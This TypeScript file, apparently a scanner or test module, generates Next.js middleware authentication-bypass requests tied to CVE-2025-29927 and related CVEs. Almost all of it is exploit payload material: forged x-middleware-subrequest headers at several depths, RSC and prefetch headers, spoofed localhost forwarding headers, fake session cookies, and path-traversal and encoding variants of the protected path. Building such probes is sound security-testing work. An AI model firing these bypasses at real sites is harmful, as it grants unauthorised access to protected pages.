// S40: what has opened pages past a check in front of them: headers that Next's own parts send each other, other forms of
// a page, other spellings of its path (CVE-2025-29927, CVE-2026-44573..44575, -45109, -64642 and their kin).

export interface Bypass {
  path: string;
  method?: string;
  headers: Record<string, string>;
}

const CHECKS = ["middleware", "src/middleware", "proxy", "src/proxy", "pages/_middleware", "app/middleware"];
const DEPTHS = [1, 2, 3, 4, 5, 6, 10];

const STATE_TREE = encodeURIComponent(JSON.stringify(["", { children: ["__PAGE__", {}] }, null, "refetch"]));

const HEADERS: readonly Record<string, string>[] = [
  ...CHECKS.flatMap((name) =>
    DEPTHS.map((depth) => ({ "x-middleware-subrequest": Array(depth).fill(name).join(":") })),
  ),
  { "x-middleware-subrequest-id": "0" },
  { "x-middleware-next": "1" },
  { "x-middleware-skip": "1" },
  { "x-middleware-prefetch": "1" },
  { "x-middleware-override-headers": "cookie,x-kms-path", "x-middleware-request-cookie": "x" },
  { "x-middleware-rewrite": "/account" },
  { "x-middleware-set-cookie": "kms=1" },
  { RSC: "1" },
  { RSC: "1", "Next-Router-Prefetch": "1" },
  { RSC: "1", "Next-Router-Prefetch": "2" },
  { RSC: "1", "Next-Router-State-Tree": STATE_TREE },
  { RSC: "1", "Next-Url": "/account" },
  ...["/_tree", "/_index", "/_full", "/_head", "/__PAGE__"].map((segment) => ({
    RSC: "1",
    "Next-Router-Prefetch": "1",
    "Next-Router-Segment-Prefetch": segment,
  })),
  { "Next-Resume": "1" },
  { "Next-Resume": "1", "x-nextjs-resume-state-length": "0" },
  { "x-nextjs-data": "1" },
  { "x-invoke-path": "/account" },
  { "x-invoke-status": "200", "x-invoke-output": "/account" },
  { "x-matched-path": "/account" },
  { "x-now-route-matches": "1=cn-hangzhou" },
  { "x-next-cache-tags": "1", "x-prerender-revalidate": "1" },
  { "x-prerender-bypass": "1" },
  { "x-original-url": "/account", "x-rewrite-url": "/account" },
  { "x-kms-path": "/account", "x-nonce": "0" },
  { "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1" },
  { "x-forwarded-proto": "https", "x-forwarded-port": "443" },
  { authorization: "Bearer null" },
  { cookie: "kms=1; __Host-kms=1; next-auth.session-token=1" },
];

function spellings(path: string): string[] {
  const encoded = path.replace(/[a-z]/g, (letter) => `%${letter.charCodeAt(0).toString(16)}`);
  return [
    `${path}.rsc`,
    `${path}.prefetch.rsc`,
    `${path}.segments/_tree.segment.rsc`,
    `${path}.segments/_full.segment.rsc`,
    `${path}.json`,
    `${path}?_rsc=1`,
    `${path}?__nextDataReq=1`,
    `${path}?nxtPregion=cn-hangzhou`,
    `/_next/data/build${path}.json`,
    `/_next/data/development${path}.json`,
    `/_next/static/..${path}`,
    `/_next/static/%2e%2e/%2e%2e${path}`,
    `/_next/static/..%2f..%2f${path.slice(1)}`,
    `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`,
    `/${path}`,
    `${path}/`,
    `${path}//`,
    `/.${path}`,
    `/x/..${path}`,
    `/x%2f..${path}`,
    `/en${path}`,
    `/ja${path}`,
    `/${encoded.slice(1)}`,
    path.replaceAll("/", "%2f"),
    path.replaceAll("/", "\\"),
    `${path}%00`,
    `${path};a=b`,
    `${path}%20`,
    path.toUpperCase(),
    `${path}#`,
  ];
}

/** Every header beside the page's own path, and every spelling of it plain, as a component payload and as a sub-request. */
export function bypassesOf(path: string): Bypass[] {
  return [
    ...HEADERS.map((headers) => ({ path, headers })),
    ...["HEAD", "POST", "OPTIONS", "TRACE"].map((method) => ({ path, method, headers: {} })),
    ...spellings(path).flatMap((spelt) =>
      [{}, { RSC: "1" }, { "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy" }].map((headers) => ({
        path: spelt,
        headers: headers as Record<string, string>,
      })),
    ),
  ];
}
